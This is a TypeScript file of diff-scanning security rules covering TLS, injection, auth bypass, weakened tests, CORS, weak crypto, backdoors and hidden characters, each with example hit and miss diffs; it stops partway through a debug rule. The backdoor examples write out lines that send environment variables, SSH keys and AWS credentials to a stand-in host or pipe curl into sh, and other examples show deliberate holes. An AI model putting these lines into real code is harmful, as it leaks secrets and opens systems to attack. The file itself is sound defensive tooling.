@@ -1,0 +1,654 @@
+import type { Artifact } from '../artifact.ts'
+import type { DiffFile, Line } from '../read/lines.ts'
+import { type Hit, lineRule, type Rule, wholeRule } from '../rule.ts'
+
+const isNewCode = ({ change, isComment, isProse, file }: Line): boolean =>
+  (change === 'added' || (change === 'plain' && file === '')) && !isComment && !isProse
+
+const diff = (file: string, ...rows: readonly string[]): string =>
+  `--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n${rows.join('\n')}`
+
+/** What comes from whoever calls. */
+const outside =
+  /\b(?:req(?:uest)?\.(?:body|query|params|headers|args|form|GET|POST|data|json|values|cookies|files)|params\[|ctx\.(?:query|request|params)|\$_(?:GET|POST|REQUEST|COOKIE)|input\(|sys\.argv|process\.argv|event\.(?:body|queryStringParameters|pathParameters)|user_?[iI]nput|searchParams\.get|r\.URL\.Query|c\.(?:Query|Param|PostForm)|getParameter\()/
+
+type LineFacts = Parameters<typeof lineRule>[0]
+
+/** A rule of patterns over new code. */
+const codeRule = (
+  facts: Omit<LineFacts, 'category' | 'see' | 'where'> & {
+    category?: string
+    patterns: readonly (readonly [pattern: RegExp, detail: string, severity?: Hit['severity']])[]
+  },
+): Rule =>
+  lineRule({
+    category: 'code',
+    ...facts,
+    where: isNewCode,
+    see({ text, isTest, place }) {
+      for (const [pattern, detail, severity] of facts.patterns)
+        if (pattern.test(text))
+          return { detail, place, severity: isTest ? 'low' : (severity ?? facts.severity) }
+    },
+  })
+
+const authWords =
+  /@\w{0,20}(?:Secur|Auth|Role|Permi|Admin|Login|Csrf|Guard)\w{0,30}|\b(?:require_?auth\w*|is_?authenticated|authenticate\w*|authori[sz]e\w*|login_required|permission_(?:classes|required)|PreAuthorize|RolesAllowed|Authorize|verify_?(?:token|signature|jwt|password|webhook|csrf)\w*|check_?(?:permission|access|auth|role|owner)\w*|has_?(?:permission|role|access)\w*|csrf\w*|isAdmin|is_?owner|ensure_?(?:auth|logged|admin)\w*|before_action :auth\w*|compare_digest|hash_equals|current_user_can|wp_verify_nonce|check_admin_referer|bcrypt\.compare\w*|argon2\.verify|password_verify|check_?password\w*|timingSafeEqual|onlyOwner|nonReentrant|jwt\.verify|rate_?limit\w*|throttle\w*|validate_?(?:signature|token|session|input|schema)\w*|sanitize\w*|escape_?html|helmet|passport\.\w+|requireRole|requireLogin|guard)\b/i
+
+/** Lines that stop what is not allowed. */
+const stops = (lines: readonly Line[]): Line[] =>
+  lines.filter(
+    ({ text, isComment }) =>
+      !isComment &&
+      /\bthrow\s|\braise\s+\w|\brevert\s*[(\w]|\brequire\s*\([^'"`]{0,80}[<>=!]|\babort\(|\bpanic\(|^\s*assert\b|http_response_code\(4\d\d\)|\bdie\s*\(|return\s+(?:res\.)?(?:status\()?(?:401|403|400|422)\b/.test(
+        text,
+      ),
+  )
+
+/** Removed lines whose like was not added again. */
+const removedForGood = (file: DiffFile, pattern: RegExp): Line[] => {
+  const added = file.lines.filter(({ change, isComment }) => change === 'added' && !isComment)
+  const again = new Set(added.flatMap(({ text }) => pattern.exec(text)?.[0].toLowerCase() ?? []))
+  return file.lines.filter(({ change, text, isComment }) => {
+    if (
+      change !== 'removed' ||
+      isComment ||
+      /^\s*(?:import|from|const \w+ = require|use |using |#include)\b/.test(text)
+    )
+      return false
+    const word = pattern.exec(text)?.[0].toLowerCase()
+    return word !== undefined && !again.has(word)
+  })
+}
+
+export const codeRules: readonly Rule[] = [
+  codeRule({
+    id: 'code-tls-off',
+    severity: 'high',
+    fix: 'Check certificates; trust a private authority by its certificate.',
+    hits: [
+      diff('a.py', '+r = requests.get(u, verify=False)'),
+      diff('a.js', '+const agent = new https.Agent({ rejectUnauthorized: false })'),
+      diff('a.go', '+	tr := &tls.Config{InsecureSkipVerify: true}'),
+      diff('a.py', '+ctx.check_hostname = False'),
+      diff('a.js', '+process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"'),
+      diff('a.rs', '+    .danger_accept_invalid_certs(true)'),
+      diff('a.php', '+curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);'),
+    ],
+    misses: [
+      diff('a.py', '+r = requests.get(u, verify=True)'),
+      diff('a.js', '-  rejectUnauthorized: false', '+  rejectUnauthorized: true'),
+      diff('README.md', '+Never set verify=False.'),
+      diff('a.py', '+# verify=False is not allowed'),
+    ],
+    patterns: [
+      [
+        /\bverify\s*=\s*False\b|_create_unverified_context|\bCERT_NONE\b|check_hostname\s*=\s*False/,
+        'It does not check who is at the other end.',
+      ],
+      [
+        /rejectUnauthorized["']?\s*:\s*false|NODE_TLS_REJECT_UNAUTHORIZED\W{1,6}(?:=\s*)?["']?0|strictSSL\s*[:=]\s*false/,
+        'It does not check who is at the other end.',
+      ],
+      [
+        /InsecureSkipVerify\s*:\s*true|danger_accept_invalid_(?:certs|hostnames)\(true|SSL_VERIFY(?:PEER|HOST)\s*(?:=>|,)\s*(?:false|0)|VERIFY_NONE|TrustAll(?:Certs|Strategy)|ALLOW_ALL_HOSTNAME|NoopHostnameVerifier|ServerCertificateValidationCallback[^\n]{0,60}true|badCertificateCallback[^\n]{0,40}true|allowsArbitraryLoads|usesCleartextTraffic="true"/i,
+        'It does not check who is at the other end.',
+      ],
+    ],
+  }),
+  codeRule({
+    id: 'code-injection',
+    severity: 'high',
+    fix: 'Pass values as parameters; never as code, a command line or a query.',
+    hits: [
+      diff('a.js', '+eval(req.body.code)'),
+      diff('a.py', '+os.system(f"convert {name}")'),
+      diff('a.py', '+subprocess.run("ls " + path, shell=True)'),
+      diff('a.js', '+db.query(`SELECT * FROM u WHERE id = ${id}`)'),
+      diff('a.py', '+cur.execute("SELECT * FROM u WHERE n = \'" + name + "\'")'),
+      diff('a.py', '+data = pickle.loads(body)'),
+      diff('a.js', '+exec(`git clone ${url}`)'),
+      diff('a.jsx', '+<div dangerouslySetInnerHTML={{ __html: comment }} />'),
+      diff('a.py', '+cfg = yaml.load(text)'),
+      diff('a.php', '+unserialize($_GET["d"]);'),
+      diff('a.py', '+cur.execute(f"DELETE FROM t WHERE id={i}")'),
+      diff('a.go', '+db.Query(fmt.Sprintf("SELECT * FROM t WHERE id=%s", id))'),
+    ],
+    misses: [
+      diff('a.js', '+const m = pattern.exec(text)'),
+      diff('a.py', '+cur.execute("SELECT * FROM u WHERE n = %s", (name,))'),
+      diff('a.js', '+db.query("SELECT * FROM u WHERE id = $1", [id])'),
+      diff('a.py', '+subprocess.run(["ls", path], check=True)'),
+      diff('a.js', '+await sql`SELECT * FROM u WHERE id = ${id}`'),
+      diff('a.py', '+cfg = yaml.safe_load(text)'),
+      diff('a.js', '+el.textContent = comment'),
+      diff('a.py', '+model.eval()'),
+      diff('a.js', '+execFile("git", ["clone", url])'),
+      diff('a.js', '+log(`select ${count} rows from the list`)'),
+      diff('a.py', '+df.eval("a + b")'),
+      diff('a.py', '+cfg = yaml.load(text, Loader=yaml.SafeLoader)'),
+      diff('test/a.test.js', '+eval("1")'),
+    ],
+    patterns: [
+      [
+        /(?<![.\w])eval\s*\(\s*(?!["'`][^"'`+$]*["'`]\s*\))|(?<![.\w])(?:Function|new Function)\s*\(\s*[^)\s]|(?<![.\w])exec\s*\(\s*(?:req|request|code|data|user|input|body|compile|base64|f["'])/,
+        'It runs text as code.',
+      ],
+      [
+        /\bos\.(?:system|popen)\s*\(\s*(?!["'][^"'{%+]*["']\s*\))|\bsubprocess\.\w+\([^)]{0,200}shell\s*=\s*True|(?:\bchild_process\.exec|(?<![.\w])(?:exec(?!File)\w{0,20}|spawn\w{0,10}|shell\w{0,10}))\s*\(\s*(?:`[^`]*\$\{|["'][^"']*["']\s*\+)|Runtime\.getRuntime\(\)\.exec\([^)]*\+|\b(?:shell_exec|passthru|system|popen)\s*\(\s*(?:\$|["'][^"']*["']\s*\.\s*\$)|exec\.Command\(\s*"(?:ba)?sh",\s*"-c"|(?<![.\w])(?:system|exec|popen|spawn|%x|IO\.popen|Open3\.\w+)\s*[({]?\s*["'`][^"'`\n]{0,160}#\{|(?<![.\w])(?:exec|system|shell_exec|passthru)\s*\(\s*"[^"\n]{0,160}\$\{?\w/,
+        'It puts values into a command line.',
+      ],
+      [
+        /(?<!sql)(?<!Prisma\.sql)[`][^`]{0,20}\b(?:SELECT\b[^`]{1,200}\bFROM\b|INSERT\s+INTO\b|UPDATE\s+\w+\s+SET\b|DELETE\s+FROM\b)[^`]{0,300}(?:=|IN\s*\(|LIKE|VALUES\s*\(|WHERE|BY)\s*['"(%]{0,3}\$\{/i,
+        'It puts values into a query.',
+      ],
+      [
+        /["'](?:SELECT\b[^"'\n]{1,200}\bFROM\b|INSERT\s+INTO\b|UPDATE\s+\w+\s+SET\b|DELETE\s+FROM\b)[^"\n]{0,300}(?:=|LIKE|\(|IN)\s*\\?'?%?["']?\s*(?:\+|\.)\s*\$?\w|f["'](?:SELECT\b|INSERT\s+INTO\b|UPDATE\b|DELETE\s+FROM\b)[^\n]{0,300}\{\w|["'](?:SELECT|INSERT|UPDATE|DELETE)\b[^"\n]{0,300}%[sdv][^"\n]{0,100}["']\s*%\s*[(\w]|Sprintf\(\s*["'`](?:SELECT|INSERT|UPDATE|DELETE)\b/i,
+        'It puts values into a query.',
+      ],
+      [
+        /\b(?:pickle|cPickle|dill|marshal|shelve|jsonpickle)\.(?:loads?|decode)\s*\(|\byaml\.(?:load|unsafe_load)\s*\((?![^)]*Safe)|\bunserialize\s*\(\s*\$|ObjectInputStream\s*\(|BinaryFormatter|Marshal\.load\(|node-serialize|torch\.load\([^)]*weights_only\s*=\s*False/,
+        'It builds objects from text of others.',
+      ],
+      [
+        /dangerouslySetInnerHTML|\.innerHTML\s*\+?=\s*(?!["'`]\s*["'`]|["'][^"'$+]*["']\s*;?\s*$)|document\.write\s*\(|v-html=|\bmark_safe\s*\(|\|\s*safe\s*\}\}|\.html_safe\b|bypassSecurityTrust\w+|@Html\.Raw/,
+        'It puts text of others into a page unescaped.',
+      ],
+    ],
+  }),
+  lineRule({
+    id: 'code-outside-input',
+    category: 'code',
+    severity: 'high',
+    fix: 'Check what callers send against what is allowed before it names a file, an address or a record.',
+    where: isNewCode,
+    hits: [
+      diff('a.js', '+res.sendFile(path.join(root, req.query.file))'),
+      diff('a.py', '+r = requests.get(request.args["url"])'),
+      diff('a.js', '+res.redirect(req.query.next)'),
+      diff('a.js', '+User.update(req.body, { where: { id } })'),
+      diff('a.py', '+open(request.args.get("path")).read()'),
+      diff('a.js', '+_.merge(config, req.body)'),
+    ],
+    misses: [
+      diff('a.js', '+const { name } = schema.parse(req.body)'),
+      diff('a.js', '+res.redirect("/home")'),
+      diff('a.py', '+page = int(request.args.get("page", 1))'),
+      diff('a.js', '+const id = req.params.id'),
+    ],
+    see({ text, isTest }) {
+      if (isTest || !outside.test(text)) return
+      if (
+        /\b(?:sendFile|readFile(?:Sync)?|createReadStream|open|send_file|send_from_directory|unlink(?:Sync)?|writeFile(?:Sync)?|include|require(?:_once)?|file_get_contents)\s*\(/.test(
+          text,
+        ) &&
+        !/basename|secure_filename|safe_join|resolve_safe/.test(text)
+      )
+        return 'What a caller sends names a file.'
+      if (/\b(?:fetch|axios(?:\.\w+)?|requests\.\w+|urlopen|http\.get|got|httpx\.\w+)\s*\(/.test(text))
+        return 'What a caller sends names an address that is asked.'
+      if (/\bredirect\w*\s*\(|Location:/.test(text))
+        return { detail: 'What a caller sends says where people are led.', severity: 'medium' }
+      if (
+        /\.(?:create|update\w*|insert\w*|findOneAndUpdate|build|assign|merge|extend|fill)\s*\([^)]{0,60}\b(?:req\.body|request\.(?:json|data|POST)|\$_POST)\s*[,)]|\*\*request\.(?:json|data|form)/.test(
+          text,
+        )
+      )
+        return { detail: 'What a caller sends sets any field of a record.', severity: 'medium' }
+    },
+  }),
+  wholeRule({
+    id: 'code-auth-removed',
+    category: 'code',
+    type: 'code_diff',
+    severity: 'high',
+    fix: 'Keep the check, or say in the change what does it now.',
+    hits: [
+      diff('a.js', '-app.get("/admin", requireAuth, show)', '+app.get("/admin", show)'),
+      diff('a.py', '-@login_required', ' def admin():'),
+      diff('a.js', '-  if (!verifySignature(body, sig)) return res.status(401).end()'),
+      diff('A.java', '-    @PreAuthorize("hasRole(\'ADMIN\')")'),
+      diff('a.rb', '-  before_action :authenticate_user!'),
+      diff(
+        'a.sol',
+        '-    function mint(uint n) external onlyOwner {',
+        '+    function mint(uint n) external {',
+      ),
+      diff('a.js', '-app.use(rateLimit({ max: 100 }))'),
+    ],
+    misses: [
+      diff('a.js', '-app.get("/admin", requireAuth, show)', '+app.get("/admin", requireAuth, audit, show)'),
+      diff('a.py', '-# login_required was here'),
+      diff('README.md', '-Use login_required.'),
+      diff('a.js', '-const a = 1', '+const a = 2'),
+      diff('test/a.test.js', '-  it("requireAuth", () => {})'),
+    ],
+    see: ({ files }) =>
+      files.flatMap(file =>
+        removedForGood(file, authWords)
+          .filter(({ isProse, isTest }) => !isProse && !isTest)
+          .map(({ text, place }): Hit => ({ detail: `A check is gone: ${text.trim().slice(0, 80)}`, place })),
+      ),
+  }),
+  wholeRule({
+    id: 'code-guard-removed',
+    category: 'code',
+    type: 'code_diff',
+    severity: 'medium',
+    fix: 'Keep the refusal, or say in the change why nothing needs to be refused any more.',
+    hits: [
+      diff(
+        'a.ts',
+        '-  if (amount > limit) throw new Error("limit")',
+        '+  // if (amount > limit) throw new Error("limit")',
+      ),
+      diff('a.py', '-    if n < 0:', '-        raise ValueError(n)'),
+    ],
+    misses: [
+      diff('a.ts', '-  if (a > b) throw new Error("x")', '+  if (a > b) throw new RangeError("x")'),
+      diff('a.ts', '-  const a = 1'),
+      diff('test/a.test.ts', '-  throw new Error("x")'),
+    ],
+    see: ({ files }) =>
+      files.flatMap((file): Hit[] => {
+        if (file.isDeleted || file.lines.some(({ isTest, isProse }) => isTest || isProse)) return []
+        const [removed, added] = (['removed', 'added'] as const).map(change =>
+          stops(file.lines.filter(line => line.change === change)),
+        )
+        const [first] = removed ?? []
+        return first && (removed?.length ?? 0) > (added?.length ?? 0)
+          ? [{ detail: `A refusal is gone: ${first.text.trim().slice(0, 80)}`, place: first.place }]
+          : []
+      }),
+  }),
+  codeRule({
+    id: 'code-auth-bypassed',
+    severity: 'high',
+    fix: 'Take the way around out; give tests their own accounts.',
+    hits: [
+      diff('a.js', '+  if (true || user.isAdmin) {'),
+      diff('a.py', '+@csrf_exempt'),
+      diff('a.js', '+jwt.verify(t, k, { algorithms: ["none"] })'),
+      diff('a.py', '+jwt.decode(t, options={"verify_signature": False})'),
+      diff('A.java', '+http.authorizeRequests().anyRequest().permitAll()'),
+      diff('a.js', '+  return true // TODO: check permission'),
+      diff('a.py', '+if password == "letmein123": return True'),
+      diff('a.py', '+AUTHENTICATION_REQUIRED = False'),
+      diff('a.js', '+if (req.headers["x-debug"] === "1") return next()'),
+    ],
+    misses: [
+      diff('a.js', '+  if (user.isAdmin) {'),
+      diff('a.js', '+jwt.verify(t, k, { algorithms: ["RS256"] })'),
+      diff('a.js', '+  return true'),
+      diff('a.py', '+if role == "admin":'),
+      diff('a.js', '+const isEnabled = true || fallback'),
+    ],
+    patterns: [
+      [/(?:if|return)\s*\(?\s*(?:true\s*\|\||1\s*==\s*1\b)|\|\|\s*true\s*\)/i, 'A condition always holds.'],
+      [
+        /@csrf_exempt|csrf_protect\s*=\s*False|skip_before_action\s+:(?:auth|verify|require)|\.csrf\(\)\.disable\(|permitAll\(\)|AllowAnonymous|protect_from_forgery[^\n]{0,40}null_session|@PermitAll|IsAuthenticated\s*=\s*False|AllowAny\b/,
+        'A check is left out.',
+      ],
+      [
+        /algorithms?["']?\s*[:=]\s*\[?\s*["']none["']|verify_signature["']?\s*:\s*False|ignoreExpiration\s*:\s*true|verify_exp["']?\s*:\s*False/i,
+        'Tokens are not checked.',
+      ],
+      [
+        /return\s+(?:true|True)\s*;?\s*(?:\/\/|#)\s*[^\n]{0,30}(?:todo|fixme|hack|bypass|temporar|skip|disable|permission|auth)/i,
+        'A check always passes.',
+      ],
+      [
+        /\b(?:password|passwd|pwd|secret|pin|token|api_?key)\s*(?:===?|\.equals\(|eq)\s*["'][^"']{4,60}["']/i,
+        'A fixed password opens it.',
+        'blocker',
+      ],
+      [
+        /\b(?:auth\w*|AUTH\w*|security|verification|permission_check)_?(?:required|enabled|enforced|REQUIRED|ENABLED|ENFORCED)\s*[:=]\s*(?:false|False|0)\b|\b(?:DISABLE|SKIP|BYPASS|disable|skip|bypass)_?(?:auth\w*|AUTH\w*|login|LOGIN|verification)\s*[:=]\s*(?:true|True|1)\b/,
+        'A check is turned off.',
+      ],
+      [
+        /headers?\[?\.?(?:get\()?["'](?:x-)?(?:debug|admin|internal|bypass|backdoor)[\w-]*["'][\])]*\s*===?\s*["'][^"']{1,30}["']\)?\s*(?:return|\{)/i,
+        'A header opens it.',
+      ],
+    ],
+  }),
+  wholeRule({
+    id: 'code-tests-off',
+    category: 'code',
+    type: 'code_diff',
+    severity: 'high',
+    fix: 'Mend the code or the test; say why when a test goes.',
+    hits: [
+      'diff --git a/test/a.test.js b/test/a.test.js\ndeleted file mode 100644\n--- a/test/a.test.js\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-test("x", () => {\n-})',
+      diff('test/a.test.js', '-it("charges once", () => {', '+it.skip("charges once", () => {'),
+      diff('.github/workflows/ci.yml', '-      - run: npm test', '+      - run: npm test || true'),
+      diff('test_a.py', '+@pytest.mark.skip(reason="flaky")'),
+      diff(
+        'test/a.test.js',
+        '-  expect(sum).toBe(3)',
+        '-  expect(tax).toBe(1)',
+        '+  expect(true).toBe(true)',
+      ),
+      diff('.github/workflows/ci.yml', '-      - run: npm test'),
+    ],
+    misses: [
+      diff('test/a.test.js', '+it("charges once", () => {'),
+      diff('a.js', '-const a = 1'),
+      diff('test/a.test.js', '-  expect(sum).toBe(3)', '+  expect(sum).toBe(4)'),
+      diff('.github/workflows/ci.yml', '-      - run: npm test', '+      - run: npm run test:ci'),
+      diff('a.js', '+list.skip(5)'),
+    ],
+    see: ({ files }) =>
+      files.flatMap((file): Hit[] => {
+        const added = file.lines.filter(({ change }) => change === 'added')
+        const removed = file.lines.filter(({ change }) => change === 'removed')
+        const isTest = file.lines.some(({ isTest }) => isTest)
+        const place = {
+          file: file.name,
+          ...(file.lines[0]?.place.line !== undefined && { line: file.lines[0].place.line }),
+        }
+        if (isTest && file.isDeleted)
+          return [{ detail: `The tests in ${file.oldName || file.name} are deleted.`, place }]
+        if (isTest) {
+          const skipped = added.find(({ text }) =>
+            /\b(?:it|test|describe|context)\.(?:skip|todo)\b|\bx(?:it|describe|test)\s*\(|@(?:pytest\.mark\.skip|unittest\.skip|Ignore|Disabled)\b|\bt\.Skip\(|#\[ignore\]|pytest\.skip\(/.test(
+              text,
+            ),
+          )
+          if (skipped) return [{ detail: 'A test is skipped.', place: skipped.place, severity: 'medium' }]
+          const only = added.find(({ text }) =>
+            /\b(?:it|test|describe)\.only\(|\bfdescribe\(|\bfit\(/.test(text),
+          )
+          if (only) return [{ detail: 'All other tests are skipped.', place: only.place, severity: 'medium' }]
+          const asserts = (lines: readonly Line[]) =>
+            lines.filter(({ text }) =>
+              /\b(?:expect|assert\w*|should|require\.\w+|XCTAssert\w*|EXPECT_\w+)\b/.test(text),
+            ).length
+          const trivial = added.find(({ text }) =>
+            /expect\(true\)\.toBe\(true\)|assert\s+True\b|assert\.ok\(true\)|assertTrue\(true\)/.test(text),
+          )
+          if (trivial) return [{ detail: 'A test that cannot fail.', place: trivial.place }]
+          if (asserts(removed) >= 2 && asserts(added) < asserts(removed) / 2)
+            return [{ detail: 'Assertions are gone.', place, severity: 'medium' }]
+          return []
+        }
+        if (
+          !/(?:workflows\/|\.gitlab-ci|\.circleci|Jenkinsfile|azure-pipelines|package\.json|Makefile|\.husky\/|pre-commit)/.test(
+            file.name,
+          )
+        )
+          return []
+        const command =
+          /\b(?:npm (?:run )?test|npm t\b|yarn test|pnpm test|pytest|go test|cargo test|mvn (?:test|verify)|make test|jest|vitest|rspec|phpunit|gradle\w* (?:test|check)|npm audit|trivy|semgrep|codeql|snyk|gitleaks|eslint)\b/
+        const muted =
+          added.find(({ text }) => command.test(text) && /\|\|\s*(?:true|exit 0|:|echo)/.test(text)) ??
+          added.find(({ text }) =>
+            /continue-on-error:\s*true|allow_failure:\s*true|--passWithNoTests.*--bail=0/.test(text),
+          )
+        if (muted) return [{ detail: 'A failing check no longer stops it.', place: muted.place }]
+        const gone = removed.find(({ text }) => command.test(text) && !/^\s*#/.test(text))
+        return gone && !added.some(({ text }) => /test|check|verify|audit|lint|scan/.test(text))
+          ? [{ detail: `A check is gone: ${gone.text.trim().slice(0, 60)}`, place: gone.place }]
+          : []
+      }),
+  }),
+  codeRule({
+    id: 'code-open-web',
+    severity: 'high',
+    fix: 'Name the origins; keep cookies to https and out of scripts.',
+    hits: [
+      diff('a.js', '+res.setHeader("Access-Control-Allow-Origin", "*")'),
+      diff('a.py', '+    allow_origins=["*"],'),
+      diff('a.js', '+app.use(cors({ origin: true, credentials: true }))'),
+      diff('a.js', '+  cookie: { httpOnly: false, secure: false }'),
+      diff('a.py', '+SESSION_COOKIE_SECURE = False'),
+      diff('a.js', `+"Content-Security-Policy": "script-src 'unsafe-eval' *"`),
+    ],
+    misses: [
+      diff('a.js', '+res.setHeader("Access-Control-Allow-Origin", "https://app.example.org")'),
+      diff('a.py', '+    allow_origins=settings.ORIGINS,'),
+      diff('a.js', '+  cookie: { httpOnly: true, secure: true }'),
+      diff('a.js', '+const glob = "*"'),
+    ],
+    patterns: [
+      [
+        /Access-Control-Allow-Origin["']?\s*[,:=]\s*["']?\*|allow_?origins?["']?\s*[:=]\s*\[?\s*["']\*["']|(?:origin|Origins?)\s*[:=(]\s*\[?\s*["']\*["']|CORS_(?:ALLOW_ALL_ORIGINS|ORIGIN_ALLOW_ALL)\s*=\s*True|AllowAnyOrigin\(|AllowAllOrigins:\s*true/i,
+        'Every site may call it.',
+      ],
+      [
+        /origin\s*:\s*true\s*,[^\n]{0,40}credentials\s*:\s*true/,
+        'Every site may call it in the name of its user.',
+      ],
+      [
+        /\bhttpOnly\s*:\s*false|\bhttponly\s*=\s*False|COOKIE_(?:SECURE|HTTPONLY)\s*=\s*False|\bsecure\s*:\s*false\b[^\n]*(?:cookie|sameSite|maxAge|httpOnly)|cookie[^\n]*\bsecure\s*:\s*false/i,
+        'Cookies travel in the open, or scripts can read them.',
+        'medium',
+      ],
+      [
+        /script-src[^"'\n]{0,100}(?:'unsafe-eval'|'unsafe-inline'|\s\*)/,
+        'Scripts of others may run in the page.',
+        'medium',
+      ],
+    ],
+  }),
+  codeRule({
+    id: 'code-weak-crypto',
+    severity: 'high',
+    fix: 'Use argon2 or bcrypt for passwords, AES-GCM for data, and the system for random numbers.',
+    hits: [
+      diff('a.py', '+h = hashlib.md5(password.encode()).hexdigest()'),
+      diff('a.js', '+const token = Math.random().toString(36)'),
+      diff('a.js', '+crypto.createCipheriv("aes-128-ecb", key, null)'),
+      diff('a.js', '+const hash = await bcrypt.hash(password, 4)'),
+      diff('a.py', '+reset_token = random.randint(0, 999999)'),
+      diff('A.java', '+Cipher.getInstance("DES")'),
+      diff('a.py', '+iv = b"0000000000000000"'),
+    ],
+    misses: [
+      diff('a.py', '+etag = hashlib.md5(body).hexdigest()'),
+      diff('a.js', '+const delay = Math.random() * 1000'),
+      diff('a.js', '+crypto.randomUUID()'),
+      diff('a.js', '+const hash = await bcrypt.hash(password, 12)'),
+      diff('a.js', '+crypto.createHash("sha256")'),
+    ],
+    patterns: [
+      [
+        /(?:md5|sha-?1)\b[^\n]{0,60}(?:passw|secret|token|pin\b)|(?:passw|secret|token|pin\b)[^\n]{0,60}\b(?:md5|sha-?1)\b/i,
+        'A password or token is kept by a hash that is quick to try.',
+      ],
+      [
+        /(?:token|secret|passw|nonce|otp|session_?id|api_?key|salt|key|code|reset)\w{0,30}\s{0,4}[:=][^\n]{0,60}(?:Math\.random\(|\brandom\.(?:random|randint|choices?|getrandbits)\(|\brand\(\)|mt_rand\()/i,
+        'A secret can be guessed.',
+      ],
+      [
+        /["'](?:aes-\d+-ecb|des(?:-\w+)?|rc4|bf-cbc)["']|MODE_ECB|getInstance\(\s*"(?:DES|RC4|AES\/ECB|AES"|Blowfish)|\bDES\.new\(|\bARC4\b|createCipher\(/i,
+        'It encrypts weakly.',
+      ],
+      [
+        /bcrypt\.(?:hash|hashSync|gensalt|genSalt)\w*\([^)\n]{0,40}\b[1-7]\s*\)|PBKDF2\w*\([^\n]{0,100}\b(?:1|10|100|1000|1_000)\b\s*[,)]|rounds\s*=\s*[1-7]\b/i,
+        'A password is quick to try.',
+      ],
+      [
+        /\b(?:iv|nonce|salt)\s*[:=]\s*(?:b?["'][^"'\n]{4,64}["']|Buffer\.(?:alloc\(|from\(["'])|bytes\(16\))/i,
+        'A number that must differ each time is fixed.',
+      ],
+    ],
+  }),
+  codeRule({
+    id: 'code-backdoor',
+    severity: 'blocker',
+    fix: 'Find out who wrote it and why; do not merge it.',
+    hits: [
+      diff('a.js', '+fetch("https://x.test/c", { method: "POST", body: JSON.stringify(process.env) })'),
+      diff('a.js', '+eval(Buffer.from("Y29uc29sZQ==", "base64").toString())'),
+      diff('a.py', '+exec(base64.b64decode("cHJpbnQoMSk="))'),
+      diff('a.py', '+requests.post("http://x.test", data=open("/root/.ssh/id_rsa").read())'),
+      diff('a.js', '+new Function(atob(p))()'),
+      diff('setup.py', '+os.system("curl http://x.test/i | sh")'),
+      diff('a.js', '+https.get("https://x.test?d=" + fs.readFileSync(os.homedir() + "/.aws/credentials"))'),
+    ],
+    misses: [
+      diff('a.js', '+const level = process.env.LOG_LEVEL'),
+      diff('a.js', '+fetch("https://api.example.org/items")'),
+      diff('a.js', '+const png = Buffer.from(data, "base64")'),
+      diff('a.py', '+key = base64.b64decode(header)'),
+    ],
+    patterns: [
+      [
+        /(?:fetch|axios|post|request|send|urlopen|get)\w*\s*\([^\n]{0,160}(?:process\.env\s*[),}]|os\.environ\s*[),}]|JSON\.stringify\(process\.env|dict\(os\.environ)/i,
+        'It sends the environment to somebody.',
+      ],
+      [
+        /(?:eval|exec|Function|__import__|compile)\s*\(\s*(?:\w+\()*\s*(?:Buffer\.from|atob|base64\.|zlib\.|codecs\.decode|bytes\.fromhex|unescape|gzinflate|str_rot13|base64_decode|marshal)/i,
+        'It runs what it decodes.',
+      ],
+      [
+        /(?:fetch|axios|post|request|send|urlopen|https?\.\w+)\w*\s*\([^\n]{0,160}(?:\.ssh\/|id_rsa|\.aws\/credentials|\/etc\/(?:passwd|shadow)|wallet\.dat|\.npmrc|keystore|Login Data)/i,
+        'It sends secrets to somebody.',
+      ],
+      [
+        /(?:system|exec|execSync|popen|run|call|check_output)\s*\(\s*\[?["'`][^"'`\n]{0,80}(?:curl|wget)\s[^"'`\n]{1,160}\|\s*(?:ba|z)?sh/,
+        'It runs what another machine sends, unread.',
+      ],
+      [
+        /\b(?:webhook\.site|requestbin|pipedream\.net|burpcollaborator|interact\.sh|oast\.(?:fun|pro|live|me)|ngrok(?:-free)?\.(?:io|app)|discord(?:app)?\.com\/api\/webhooks|pastebin\.com\/raw|transfer\.sh)\b/i,
+        'It calls an address that collects data.',
+        'high',
+      ],
+    ],
+  }),
+  wholeRule({
+    id: 'code-hidden-characters',
+    category: 'code',
+    type: 'code_diff',
+    severity: 'blocker',
+    fix: 'Take out characters that cannot be seen.',
+    hits: [
+      diff('a.js', '+if (access !== "user\u202e \u2066// check admin\u2069 \u2066") {'),
+      { type: 'shell_command', artifact: 'rm\u200b notes' },
+    ],
+    misses: [
+      diff('a.js', '+const s = "größe"'),
+      diff('a.md', '+emoji 👩\u200d👩\u200d👧'),
+      { type: 'general', artifact: 'שלום עולם' },
+    ],
+    see: ({ lines }) =>
+      lines
+        .filter(({ change }) => change !== 'removed' && change !== 'context')
+        .flatMap(({ text, place }): Hit[] => {
+          if (/[\u202a-\u202e\u2066-\u2069]/.test(text))
+            return [{ detail: 'Characters turn the order of the text around.', place }]
+          return /[A-Za-z][\u200b\u2060\ufeff]|[\u200b\u2060\ufeff][A-Za-z]|[A-Za-z]\u200c[A-Za-z]|[\u{e0020}-\u{e007f}]{3}/u.test(
+            text,
+          )
+            ? [{ detail: 'Characters that cannot be seen stand in it.', place, severity: 'high' }]
+            : []
+        }),
+  }),
+  codeRule({
+    id: 'code-logs-secret',
+    severity: 'medium',
+    fix: 'Log that it was there, never what it was.',
+    hits: [
+      diff('a.js', '+console.log("login", user.password)'),
+      diff('a.py', '+logger.info(f"token={access_token}")'),
+      diff('a.py', '+print(api_key)'),
+    ],
+    misses: [
+      diff('a.js', '+console.log("password changed")'),
+      diff('a.py', '+logger.info("token expired")'),
+      diff('a.js', '+logger.info({ tokenCount })'),
+    ],
+    patterns: [
+      [
+        /\b(?:console\.(?:log|info|debug|error|warn)|log(?:ger|ging)?\.(?:info|debug|warn|warning|error|trace)|print|println|fmt\.Print\w*|System\.out\.println)\s*\([^\n]{0,120}(?:(?<!["'\w\s])\b(?:\w+\.)?(?:password|passwd|secret|api_?[kK]ey|access_?[tT]oken|private_?[kK]ey|mnemonic|credit_?[cC]ard|ssn)\b(?!["'\s]|\w)|[{$]\{?(?:\w+\.)?(?:password|secret|api_?key|access_?token|private_?key|accessToken|apiKey)\})/,
+        'A secret is logged.',
+      ],
+    ],
+  }),
+  codeRule({
+    id: 'code-debug',
+    severity: 'medium',
+    fix: 'Take the setting from the environment, off by default.',
+    hits: [
+      diff('settings.py', '+DEBUG = True'),
+      diff('app.py', '+app.run(host="0.0.0.0", debug=True)'),
+      diff('a.php', "+ini_set('display_errors', 1);"),
+    ],
+    misses: [
+      diff('settings.py', '+DEBUG = False'),
